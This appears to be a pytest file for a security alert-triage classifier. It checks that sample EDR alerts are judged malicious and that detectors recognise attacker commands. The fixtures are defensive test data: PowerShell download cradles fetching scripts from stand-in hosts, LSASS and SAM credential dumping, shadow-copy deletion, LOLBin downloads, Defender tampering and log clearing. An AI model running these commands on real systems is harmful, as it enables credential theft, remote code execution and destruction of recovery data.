"""The alert is evidence too: the three alerts a new user saw closed as benign (issue 9) are read like an
analyst reads them, with no telemetry and no intel; the knowledge tables hold together."""

from __future__ import annotations

import base64
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from flows.models import Alert, VerdictLabel
from flows.tenants import Policy
from flows.triage import classify
from flows.triage._alert_evidence import decoded_powershell
from flows.triage._findings import ANCESTRY, COMMAND, GATE, PERSISTENCE, TECHNIQUE, THREAT
from flows.triage._knowledge import knowledge
from templates import languages

TEMPLATES = Path(__file__).resolve().parents[2] / "templates"
LANGUAGES = languages()


def _alert(title: str, severity: int, evidences: list[dict[str, Any]], **extra: Any) -> Alert:
    return Alert.model_validate(
        {
            "class_uid": 2004,
            "severity_id": severity,
            "time": 1_794_733_200_000,
            "metadata": {"tenant_uid": "demo", "product": {"name": "Falcon-like EDR"}},
            "finding_info": {"title": title, **extra.pop("finding", {})},
            "device": {"hostname": "WS-ACC-12"},
            "evidences": evidences,
            **extra,
        }
    )


def _encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


RANSOMWARE = _alert(
    "Ransomware: mass file encryption and shadow copy deletion",
    6,
    [
        {
            "process": {
                "name": "vssadmin.exe",
                "cmd_line": "vssadmin.exe delete shadows /all /quiet",
                "file": {"path": r"C:\Windows\System32\vssadmin.exe"},
                "parent_process": {"file": {"path": r"C:\Users\j.doe\AppData\Local\Temp\wupd.exe"}},
            }
        }
    ],
)
OFFICE_MACRO = _alert(
    "Encoded PowerShell spawned by Office macro",
    4,
    [
        {
            "process": {
                "name": "powershell.exe",
                "cmd_line": "powershell.exe -nop -w hidden -enc "
                + _encoded(
                    "IEX (New-Object Net.WebClient).DownloadString('http://cdn-0ffice.example/i.ps1')"
                ),
                "parent_process": {"name": "WINWORD.EXE"},
            }
        }
    ],
)
TASK_CRADLE = _alert(
    "Scheduled task runs hidden PowerShell download cradle",
    3,
    [
        {
            "job": {
                "name": r"\Microsoft\Windows\Bluetooths",
                "cmd_line": 'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('
                "'http://v.beahh.example/v.ps1')\"",
            }
        }
    ],
)


@pytest.mark.parametrize(
    ("alert", "questions"),
    [
        pytest.param(RANSOMWARE, {COMMAND, THREAT}, id="ransomware"),
        pytest.param(OFFICE_MACRO, {COMMAND, ANCESTRY}, id="office-macro"),
        pytest.param(TASK_CRADLE, {COMMAND, PERSISTENCE}, id="task-cradle"),
    ],
)
def test_the_three_alerts_closed_as_benign_are_now_malicious_for_what_they_show(
    alert: Alert, questions: set[str]
) -> None:
    verdict = classify([alert], alert.indicators(), Policy())

    assert verdict.verdict is VerdictLabel.MALICIOUS
    assert verdict.needs_analyst  # attacker behaviour: contained automatically, closed by a person
    answered = {r.question for r in verdict.reasons if r.effect > 0}
    assert questions <= answered
    assert GATE in {r.question for r in verdict.reasons}


def test_reasons_name_what_in_the_alert_made_them() -> None:
    reasons = classify([RANSOMWARE], [], Policy()).reasons
    command = next(r for r in reasons if r.question == COMMAND)

    assert command.params["behaviour"] == "shadow_copy_delete"
    assert command.params["process"] == "vssadmin.exe"
    assert "T1490" in command.sources and any("attack.mitre.org" in s for s in command.sources)
    assert next(r for r in reasons if r.question == THREAT).params["category"] == "ransomware"


def test_the_encoded_command_is_decoded_and_read() -> None:
    reasons = classify([OFFICE_MACRO], [], Policy()).reasons
    behaviours = {r.params["behaviour"]: r for r in reasons if r.code == "behaviour"}

    assert behaviours["download_cradle"].params["decoded"] == 1
    assert "decoded" in behaviours["download_cradle"].finding
    assert {"encoded_powershell", "hidden_window"} <= set(behaviours)


def test_decoding_hostile_base64_never_fails() -> None:
    assert decoded_powershell("powershell -enc !!!!notbase64!!!!") is None
    assert decoded_powershell("powershell -ExecutionPolicy Bypass -File x.ps1") is None
    assert decoded_powershell("powershell -enc " + _encoded("Get-Date")) == "Get-Date"


@pytest.mark.parametrize(
    ("command", "behaviour"),
    [
        ("vssadmin.exe Delete Shadows /All /Quiet", "shadow_copy_delete"),
        ("wmic shadowcopy delete /nointeractive", "shadow_copy_delete"),
        ("vssadmin delete shadows /for=C: /oldest /quiet", "shadow_copy_prune"),
        ("wbadmin delete catalog -quiet", "backup_catalog_delete"),
        ("bcdedit /set {default} recoveryenabled No", "backup_catalog_delete"),
        (
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full",
            "credential_dump_lsass",
        ),
        ("procdump64.exe -accepteula -ma lsass.exe out.dmp", "credential_dump_lsass"),
        (r"reg save HKLM\SAM C:\temp\sam.save", "credential_dump_hives"),
        ("regsvr32 /s /n /u /i:http://x.example/file.sct scrobj.dll", "regsvr32_scriptlet"),
        ("mshta.exe http://x.example/a.hta", "mshta_remote"),
        ('rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)', "rundll32_script"),
        ("certutil.exe -urlcache -split -f http://x.example/p.exe p.exe", "certutil_download"),
        ("certutil -decode enc.txt payload.exe", "certutil_decode"),
        ("bitsadmin /transfer job /download http://x.example/a.exe C:\\a.exe", "bitsadmin_transfer"),
        ("msiexec /q /i http://x.example/helloworld.msi", "msiexec_remote"),
        ("powershell Set-MpPreference -DisableRealtimeMonitoring $true", "defender_tamper"),
        ("wevtutil cl Security", "clear_event_logs"),
    ],
)
def test_each_behaviour_is_recognised_in_a_real_command_line(command: str, behaviour: str) -> None:
    found = [b.id for b in knowledge().behaviours if b.found_in(command)]

    assert behaviour in found


@pytest.mark.parametrize(
    "command",
    [
        "powershell.exe -ExecutionPolicy RemoteSigned -File C:\\Scripts\\inventory.ps1",
        "vssadmin list shadows",
        "certutil -hashfile setup.exe SHA256",
        "regsvr32 /s C:\\Program Files\\Vendor\\plugin.dll",
        "cmd.exe /c echo hello",
    ],
)
def test_everyday_admin_commands_are_not_attacker_behaviour(command: str) -> None:
    malicious = [b.id for b in knowledge().behaviours if b.grade == "malicious" and b.found_in(command)]

    assert malicious == []


def test_routine_on_the_hosts_never_clears_attacker_behaviour() -> None:
    # The task cradle is risky: even a history of the same command could not make it benign.
    verdict = classify([TASK_CRADLE], [], Policy(unknown_verdict="benign"))

    assert verdict.verdict is VerdictLabel.MALICIOUS


def test_techniques_add_little_alone_and_are_capped() -> None:
    attacks = [{"technique": {"uid": f"T1{n:03d}"}} for n in range(100, 140)]
    alert = _alert("Behaviour", 0, [], finding={"attacks": attacks})

    [reason] = [r for r in classify([alert], [], Policy()).reasons if r.question == TECHNIQUE]

    assert 0 < reason.effect <= knowledge().techniques.cap


def test_a_sensor_quarantine_does_not_make_an_attack_tool_harmless() -> None:
    alert = _alert("HackTool:Win32/Mimikatz", 2, [], disposition_id=3)

    verdict = classify([alert], [], Policy())

    assert verdict.verdict is VerdictLabel.SUSPICIOUS and verdict.needs_analyst
    assert "disposition" in {r.code for r in verdict.reasons}


# -- the knowledge tables ----------------------------------------------------------------------------


def test_every_table_row_has_a_valid_technique_and_a_source() -> None:
    table = knowledge()
    for row in (*table.behaviours, *table.ancestry):
        assert re.match(r"^T\d{4}(\.\d{3})?$", row.technique), row
        assert all(s.startswith("https://") for s in row.sources), row
    for threat in table.threats:
        assert threat.sources and threat.words


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_table_id_and_finding_is_told_in_every_language(language: str) -> None:
    messages = yaml.safe_load((TEMPLATES / language / "messages.yaml").read_text(encoding="utf-8"))
    table = knowledge()

    assert {b.id for b in table.behaviours} <= set(messages["behaviour"])
    assert {g.id for g in table.ancestry} <= set(messages["ancestry_group"])
    assert {t.category for t in table.threats if t.question == "threat"} <= set(messages["threat_kind"])
    for code in (
        "behaviour", "behaviour_decoded", "ancestry", "techniques", "threat_name", "confidence_high",
        "confidence_low", "disposition", "routine", "stale_only", "unanswered", "unanswered_policy",
        "analyst_required",
    ):  # fmt: skip
        assert code in messages["finding"], code
    for question in ("command", "ancestry", "technique", "threat", "unanswered", "gate"):
        assert question in messages["question"], question


def _launches(hosts: int, days: int, command: str, parent: str) -> list[dict[str, Any]]:
    from datetime import UTC, datetime, timedelta

    from flows.store import event_row

    start = datetime.fromtimestamp(1_794_733_200, UTC)
    rows = []
    for host in range(hosts):
        for day in range(1, days + 1):
            when = start - timedelta(days=day)
            document = {
                "class_uid": 1007,
                "time": int(when.timestamp() * 1000),
                "device": {"hostname": f"WS-{host:02d}"},
                "process": {"cmd_line": command, "parent_process": {"file": {"path": parent}}},
            }
            rows.append(event_row(document, "demo"))
    return rows


@pytest.mark.parametrize(("hosts", "benign"), [(1, False), (5, True)])
def test_routine_clears_only_what_many_hosts_have_done_for_days(hosts: int, benign: bool) -> None:
    from flows.triage import MemoryTelemetry

    parent = r"C:\Windows\CCM\CcmExec.exe"
    command = "powershell.exe -NoProfile -EncodedCommand " + _encoded("Get-CimInstance Win32_BIOS")
    alert = _alert(
        "Encoded PowerShell command executed",
        2,
        [
            {
                "process": {
                    "name": "powershell.exe",
                    "cmd_line": command,
                    "parent_process": {"file": {"path": parent}},
                }
            }
        ],
    )
    telemetry = MemoryTelemetry(_launches(hosts, 14, command, parent))

    verdict = classify([alert], [], Policy(), telemetry)

    # One host's daily habit could be the intruder's own scheduled task: that clears nothing.
    assert (verdict.verdict is VerdictLabel.BENIGN) is benign
    assert ("routine" in {r.code for r in verdict.reasons}) is benign


def test_traffic_everybody_has_does_not_clear_a_lolbin_beaconing() -> None:
    from flows.bench._triage import _T, _alert, _events
    from flows.store import event_row
    from flows.triage import MemoryTelemetry

    rows = [event_row(d, d["metadata"]["tenant_uid"]) for d in _events(2000)]
    alert = _alert()

    verdict = classify([alert], alert.indicators(), Policy(), MemoryTelemetry(rows), _T)

    assert "prevalence_baseline" in {r.code for r in verdict.reasons}  # hundreds of hosts, three tenants…
    assert verdict.verdict is VerdictLabel.SUSPICIOUS  # …but msiexec makes the connections: a person looks
